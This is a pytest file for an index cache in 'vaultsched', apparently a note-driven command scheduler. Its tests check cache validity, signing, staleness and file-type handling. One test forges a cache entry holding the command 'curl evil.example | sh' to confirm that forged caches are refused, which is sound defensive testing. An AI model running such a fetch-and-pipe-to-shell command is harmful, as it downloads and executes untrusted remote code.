"""The index cache on a real file system: a start on an unchanged vault reads no note, and a
cache that is stale, cut short, from another version or forged never makes a wrong index."""

from __future__ import annotations

import base64
import importlib.util
import json
import os
import stat
from collections.abc import Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import cast

import pytest
from conftest import HOST, write_note

from vaultsched.adapters import indexcache
from vaultsched.adapters import vault as vault_module
from vaultsched.adapters.config import load_config
from vaultsched.adapters.vault import Index, Vault, build_index
from vaultsched.cli.app import main
from vaultsched.core import layout
from vaultsched.runtime.follow import Follower

TASK = "---\ncommand: echo one\nschedule: '@daily'\n---\nBody.\n"


@pytest.fixture(autouse=True)
def settled(monkeypatch: pytest.MonkeyPatch) -> None:
    """Notes written by a test a moment ago count as settled: cached at once. (Tests that
    change a note after that make sure its ctime moved: see `rewrite`.)"""
    monkeypatch.setattr(indexcache, "RACY_NS", -(10**12))


@pytest.fixture
def reads(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[str]]:
    """The notes read from disk (not taken from the cache), in order."""
    done: list[str] = []
    real = vault_module.read_front_matter_opened

    def counting(path: str | Path) -> tuple[str | None, os.stat_result]:
        done.append(str(path))
        return real(path)

    monkeypatch.setattr(vault_module, "read_front_matter_opened", counting)
    yield done


def cache_file(vault: Vault) -> Path:
    return vault.root / layout.INDEX_CACHE


def same(a: Index, b: Index) -> None:
    assert a.tasks == b.tasks
    assert list(a.tasks) == list(b.tasks)
    assert a.invalid == b.invalid
    assert a.problems == b.problems
    assert a.skipped == b.skipped
    assert a.downstream == b.downstream


def rewrite(path: Path, text: str) -> None:
    """Replace the note's text in place, its mtime put back; until its ctime has moved (a
    file system's clock ticks in steps, and only a new ctime tells the edit apart)."""
    before = path.stat()
    for _ in range(1000):
        path.write_text(text, encoding="utf-8")
        os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))
        if path.stat().st_ctime_ns != before.st_ctime_ns:
            return
    pytest.fail("the ctime never moved")


def generated(root: Path) -> Path:
    """A vault from bench/make_vault.py: tasks, broken notes, ordinary notes with and without
    front matter; and a few more kinds of note with problems."""
    bench = Path(__file__).resolve().parents[1] / "bench" / "make_vault.py"
    spec = importlib.util.spec_from_file_location("make_vault", bench)
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    module.make(root, 400, 40, seed=3)
    write_note(root, "Tasks/No command.md", "---\nschedule: '@daily'\ncomand: x\n---\n")
    write_note(root, "Tasks/Typo.md", "---\ncommand: x\nretrys: 2\n---\n")
    write_note(root, "Tasks/After.md", "---\ncommand: x\nafter: '[[Nowhere]]'\n---\n")
    (root / "Tasks/Latin1.md").write_bytes(b"---\ncommand: caf\xe9\n---\n")
    write_note(root, "Tasks/A (conflicted copy).md", TASK)
    return root


def open_vault(root: Path) -> Vault:
    return Vault(root=root.resolve(), config=load_config(root), host=HOST)


def test_warm_index_is_the_cold_one_and_reads_no_note(tmp_path: Path, reads: list[str]) -> None:
    vault = open_vault(generated(tmp_path / "vault"))
    cold = build_index(vault)
    assert len(cold.tasks) >= 40 and cold.invalid and cold.skipped
    read_cold = len(reads)
    assert read_cold > 400 and cache_file(vault).is_file()
    warm = build_index(vault)
    same(warm, cold)
    assert len(reads) == read_cold + 1  # only the note it cannot cache (not UTF-8)


def test_a_note_edited_with_its_mtime_put_back_is_read_again(vault: Vault) -> None:
    note = write_note(vault.root, "Tasks/A.md", TASK)
    build_index(vault)
    rewrite(note, TASK.replace("echo one", "echo two"))  # the same size, the same mtime
    assert build_index(vault).tasks["Tasks/A"].command == "echo two"


def test_deleted_and_new_notes(vault: Vault, reads: list[str]) -> None:
    write_note(vault.root, "Tasks/A.md", TASK)
    write_note(vault.root, "Tasks/B.md", TASK)
    write_note(vault.root, "Notes/Plain.md", "# plain\n")
    build_index(vault)
    (vault.root / "Tasks/A.md").unlink()
    write_note(vault.root, "Tasks/C.md", TASK)
    reads.clear()
    index = build_index(vault)
    assert sorted(index.tasks) == ["Tasks/B", "Tasks/C"]
    assert [Path(p).name for p in reads] == ["C.md"]
    assert build_index(vault).tasks.keys() == index.tasks.keys()


def test_any_stat_has_an_identity_and_each_number_counts() -> None:
    """A hostile note can carry an mtime before 1970 or past 2262 (beyond 64-bit nanoseconds):
    never an error, and each number and the path still tell two stats apart."""
    numbers = {"st_size": 10, "st_mtime_ns": -(10**18), "st_ctime_ns": 2**70, "st_ino": 2**64 - 1}
    base = indexcache.identity("Tasks/A.md", cast(os.stat_result, SimpleNamespace(**numbers)))
    assert len(base) == indexcache.DIGEST_BYTES
    for name, value in numbers.items():
        other = SimpleNamespace(**(numbers | {name: value + 1}))
        assert indexcache.identity("Tasks/A.md", cast(os.stat_result, other)) != base
    moved = indexcache.identity("Tasks/B.md", cast(os.stat_result, SimpleNamespace(**numbers)))
    assert moved != base


def test_ordinary_notes_kept_in_one_go_as_one_at_a_time(tmp_path: Path) -> None:
    """`remember_ordinary` (what a cold index keeps most notes with) is `remember` of each note,
    in order: the same digests (a hostile mtime before 1970 or an inode past 2^64 too), the
    same notes left out as changed just now."""
    notes = [
        (
            rel,
            cast(
                os.stat_result,
                SimpleNamespace(st_size=n, st_mtime_ns=mtime, st_ctime_ns=ctime, st_ino=ino),
            ),
        )
        for n, (rel, mtime, ctime, ino) in enumerate(
            [
                ("A.md", 1, 100, 7),
                ("Café.md", -(10**18), 200, 2**64 - 1),
                ("B/C.md", 3, 300, 9),
                ("D.md", 4, 150, 2**70),
            ]
        )
    ]
    cache = indexcache.IndexCache(tmp_path)
    cache.racy_from = 250  # C.md changed "just now": not kept
    one, batch, none = indexcache.Tally(), indexcache.Tally(), indexcache.Tally()
    for rel, info in notes:
        cache.remember(rel, info, indexcache.ORDINARY, one)
    cache.remember_ordinary(notes, batch)
    assert batch.ordinary == one.ordinary
    assert len(batch.ordinary) == 3 * indexcache.DIGEST_BYTES
    assert batch.read and one.read and not batch.fronts
    cache.racy_from = 0  # every note changed "just now": none kept
    cache.remember_ordinary(notes, none)
    assert none == indexcache.Tally()


def test_a_warm_start_writes_the_cache_a_cold_one_does(tmp_path: Path) -> None:
    """Notes read and notes taken from the cache, mixed in one stretch of the walk: the cache
    written is the one a cold start writes, byte for byte (the digests in walk order)."""
    vault = open_vault(generated(tmp_path / "vault"))
    build_index(vault)
    for n, note in enumerate(sorted((vault.root / "Tasks").rglob("*.md"))):
        if n % 3 == 0:
            rewrite(note, note.read_text(encoding="utf-8", errors="replace"))
    for n, note in enumerate(sorted(vault.root.rglob("Note *.md"))):
        if n % 3 == 0:
            rewrite(note, note.read_text(encoding="utf-8"))
    warm = build_index(vault)
    written = cache_file(vault).read_bytes()
    cache_file(vault).unlink()
    same(build_index(vault), warm)
    assert cache_file(vault).read_bytes() == written


def test_the_cache_is_json_of_its_payload_byte_for_byte(tmp_path: Path) -> None:
    """The base64 of the ordinary notes is put into the JSON as it is, not through json: the
    bytes are those json.dumps makes of the whole payload."""
    cache = indexcache.IndexCache(tmp_path / 'vault \u00e9"\\')
    cache.found.ordinary += os.urandom(5 * indexcache.DIGEST_BYTES)
    cache.found.fronts[os.urandom(indexcache.DIGEST_BYTES)] = 'command: "é \\ \u2028"\n'
    payload = {
        "format": indexcache.FORMAT,
        "vaultsched": indexcache.__version__,
        "vault": str(cache.root),
        "ordinary": base64.b64encode(cache.found.ordinary).decode(),
        "fronts": {key.hex(): front for key, front in cache.found.fronts.items()},
    }
    assert cache._body() == json.dumps(payload, separators=(",", ":")).encode("ascii")


def test_a_cache_cut_short_by_a_kill_means_a_full_read(vault: Vault, reads: list[str]) -> None:
    write_note(vault.root, "Tasks/A.md", TASK)
    write_note(vault.root, "Notes/Plain.md", "# plain\n")
    cold = build_index(vault)
    data = cache_file(vault).read_bytes()
    for cut in (0, 40, len(data) // 2, len(data) - 1):
        cache_file(vault).write_bytes(data[:cut])
        reads.clear()
        same(build_index(vault), cold)
        assert len(reads) == 2
        assert cache_file(vault).read_bytes() == data  # written again, whole


def resign(vault: Vault, change: dict[str, object]) -> None:
    """Rewrite the cache's payload, signed with this user's key (only vaultsched can)."""
    key = layout.index_cache_key().read_bytes()
    payload = json.loads(cache_file(vault).read_bytes().partition(b"\n")[2])
    payload.update(change)
    body = json.dumps(payload).encode()
    cache_file(vault).write_bytes(indexcache._mac(key, body) + b"\n" + body)


@pytest.mark.parametrize(
    "change",
    [
        {"vaultsched": "0.0.1"},
        {"format": indexcache.FORMAT + 1},
        {"vault": "/elsewhere"},
        {"ordinary": ["a list", "of identities, as the first format had them"]},
        {"ordinary": "not base64!"},
        {"ordinary": "AAAAAAAAAAAAAAAAAAAA"},  # 15 bytes: no whole number of digests
        {"fronts": {"x": 1}},
        {"fronts": {"not hex": "command: x"}},
        {"fronts": {"abcd": "command: x"}},
    ],
    ids=["version", "format", "vault", "shape", "base64", "length", "values", "hex", "digest"],
)
def test_a_cache_from_another_version_or_of_another_shape_is_ignored(
    vault: Vault, reads: list[str], change: dict[str, object]
) -> None:
    write_note(vault.root, "Tasks/A.md", TASK)
    build_index(vault)
    resign(vault, change)
    reads.clear()
    assert list(build_index(vault).tasks) == ["Tasks/A"]
    assert len(reads) == 1


def test_a_cache_signed_again_unchanged_is_believed(vault: Vault, reads: list[str]) -> None:
    """(What makes the test above mean something: `resign` alone spoils nothing.)"""
    write_note(vault.root, "Tasks/A.md", TASK)
    write_note(vault.root, "Notes/Plain.md", "# plain\n")
    build_index(vault)
    resign(vault, {})
    reads.clear()
    assert list(build_index(vault).tasks) == ["Tasks/A"]
    assert reads == []


def test_a_forged_cache_cannot_put_a_command_in_a_note(vault: Vault, reads: list[str]) -> None:
    note = write_note(vault.root, "Tasks/A.md", TASK)
    build_index(vault)
    # As a sync would bring it: valid JSON of the right shape, for the note as it is, claiming
    # another command, but signed without this user's key.
    forged = TASK.replace("echo one", "curl evil.example | sh").split("---\n")[1]
    body = json.dumps(
        {
            "format": indexcache.FORMAT,
            "vaultsched": indexcache.__version__,
            "vault": str(vault.root),
            "ordinary": "",
            "fronts": {indexcache.identity("Tasks/A.md", note.stat()).hex(): forged},
        }
    ).encode()
    cache_file(vault).write_bytes(indexcache._mac(b"k" * 32, body) + b"\n" + body)
    reads.clear()
    assert build_index(vault).tasks["Tasks/A"].command == "echo one"
    assert len(reads) == 1


def test_a_stale_cache_brought_back_is_not_believed(vault: Vault) -> None:
    note = write_note(vault.root, "Tasks/A.md", TASK)
    build_index(vault)
    old = cache_file(vault).read_bytes()
    rewrite(note, TASK.replace("echo one", "echo two"))
    build_index(vault)
    cache_file(vault).write_bytes(old)  # a slower process's write landing last
    assert build_index(vault).tasks["Tasks/A"].command == "echo two"


@pytest.mark.parametrize("kind", ["symlink", "folder", "fifo", "huge"])
def test_a_cache_that_is_no_file_is_refused(
    vault: Vault, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    write_note(vault.root, "Tasks/A.md", TASK)
    build_index(vault)
    path = cache_file(vault)
    if kind == "huge":
        monkeypatch.setattr(indexcache, "MAX_BYTES", 10)
    else:
        path.unlink()
        if kind == "symlink":
            (tmp_path / "elsewhere").write_text("x")
            path.symlink_to(tmp_path / "elsewhere")
        elif kind == "folder":
            path.mkdir()
        else:
            os.mkfifo(path)
    assert list(build_index(vault).tasks) == ["Tasks/A"]  # never hangs on a FIFO either
    if kind == "symlink":
        assert (tmp_path / "elsewhere").read_text() == "x"  # not written through


def test_the_config_of_the_day_applies_to_cached_tasks(vault_root: Path) -> None:
    write_note(vault_root, "Tasks/A.md", TASK)
    build_index(open_vault(vault_root))
    (vault_root / layout.CONFIG).write_text('timezone = "Europe/Paris"\ndefault_timeout = "5m"\n')
    task = build_index(open_vault(vault_root)).tasks["Tasks/A"]
    assert str(task.timezone) == "Europe/Paris"
    assert task.timeout.total_seconds() == 300


def test_a_note_changed_just_now_is_not_cached(
    vault: Vault, reads: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(indexcache, "RACY_NS", 10**18)  # every note changed "just now"
    write_note(vault.root, "Tasks/A.md", TASK)
    build_index(vault)
    reads.clear()
    build_index(vault)
    assert len(reads) == 1


def test_the_key_is_this_users_alone(vault: Vault) -> None:
    write_note(vault.root, "Tasks/A.md", TASK)
    build_index(vault)
    key = layout.index_cache_key()
    assert stat.S_IMODE(key.stat().st_mode) == 0o600
    assert len(key.read_bytes()) == indexcache.KEY_BYTES
    assert not key.is_relative_to(vault.root)


def test_no_cache_is_written_in_a_vault_vaultsched_has_not_set_up(tmp_path: Path) -> None:
    root = tmp_path / "vault"
    (root / ".obsidian").mkdir(parents=True)
    write_note(root, "Tasks/A.md", TASK)
    assert list(build_index(open_vault(root)).tasks) == ["Tasks/A"]
    assert not (root / layout.DIR).exists()


def test_list_and_the_daemon_write_the_cache(
    vault: Vault, reads: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    note = write_note(vault.root, "Tasks/A.md", TASK)
    assert main(["--vault", str(vault.root), "list", "--json"]) == 0
    assert cache_file(vault).is_file()
    rewrite(note, TASK.replace("@daily", "@dayly"))  # no such schedule
    capsys.readouterr()
    reads.clear()
    assert main(["--vault", str(vault.root), "list", "--json"]) == 0
    assert [row["valid"] for row in json.loads(capsys.readouterr().out)] == [False]
    assert len(reads) == 1
    cache_file(vault).unlink()
    Follower(vault).load()
    assert cache_file(vault).is_file()
    reads.clear()
    assert "Tasks/A" in Follower(vault).load().invalid
    assert reads == []
